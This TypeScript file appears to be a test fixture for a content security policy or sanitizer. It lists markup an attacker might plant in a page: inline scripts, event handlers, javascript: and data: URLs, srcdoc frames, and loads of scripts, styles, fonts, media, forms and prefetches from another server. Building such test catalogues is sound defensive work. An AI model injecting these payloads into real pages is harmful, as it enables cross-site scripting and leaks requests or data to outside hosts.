/** Markup that an attacker got into the page's file. What runs sets `planted`; what loads asks the other server. */

/** @param foreign address of another server, with a slash at the end */
export const PLANTED: Record<string, (foreign: string) => string> = {
  'inline script': () => '<script>window.planted = true</script>',
  'inline module': () => '<script type="module">window.planted = true</script>',
  'inline handler': () => '<svg onload="window.planted = true"></svg><img src="x" onerror="window.planted = true">',
  'script of another server': (foreign) => `<script src="${foreign}x.js"></script>`,
  'data: script': () => '<script src="data:text/javascript,window.planted = true"></script>',
  'javascript: frame': () => '<iframe src="javascript:parent.planted = true"></iframe>',
  'frame with its own text': () => '<iframe srcdoc="<script>parent.planted = true</script>"></iframe>',
  'data: frame': () => '<iframe src="data:text/html,<script>parent.planted = true</script>"></iframe>',
  'frame of another server': (foreign) => `<iframe src="${foreign}"></iframe>`,
  'javascript: link': () => '<a href="javascript:window.planted = true" data-press>x</a>',
  'javascript: form': () => '<form action="javascript:window.planted = true"><button data-press>x</button></form>',
  'form to another server': (foreign) => `<form action="${foreign}" method="post"><button data-press>x</button></form>`,
  'base of another server': (foreign) => `<base href="${foreign}"><img src="x.png">`,
  image: (foreign) => `<img src="${foreign}x.png"><picture><source srcset="${foreign}y.png"><img></picture>`,
  'style sheet': (foreign) => `<link rel="stylesheet" href="${foreign}x.css">`,
  'imported style': (foreign) => `<style>@import url(${foreign}x.css);</style>`,
  'picture in a style': (foreign) => `<style>body { background: url(${foreign}x.png) }</style>`,
  font: (foreign) =>
    `<style>@font-face { font-family: x; src: url(${foreign}x.woff2) } body { font-family: x }</style>`,
  'sound and video': (foreign) =>
    `<video autoplay muted src="${foreign}x.mp4"></video><audio autoplay src="${foreign}x.mp3"></audio>`,
  'object and embed': (foreign) => `<object data="${foreign}x.html"></object><embed src="${foreign}x.html">`,
  'manifest of another server': (foreign) => `<link rel="manifest" href="${foreign}x.webmanifest">`,
  prefetch: (foreign) => `<link rel="prefetch" href="${foreign}x.js"><link rel="modulepreload" href="${foreign}y.js">`,
};
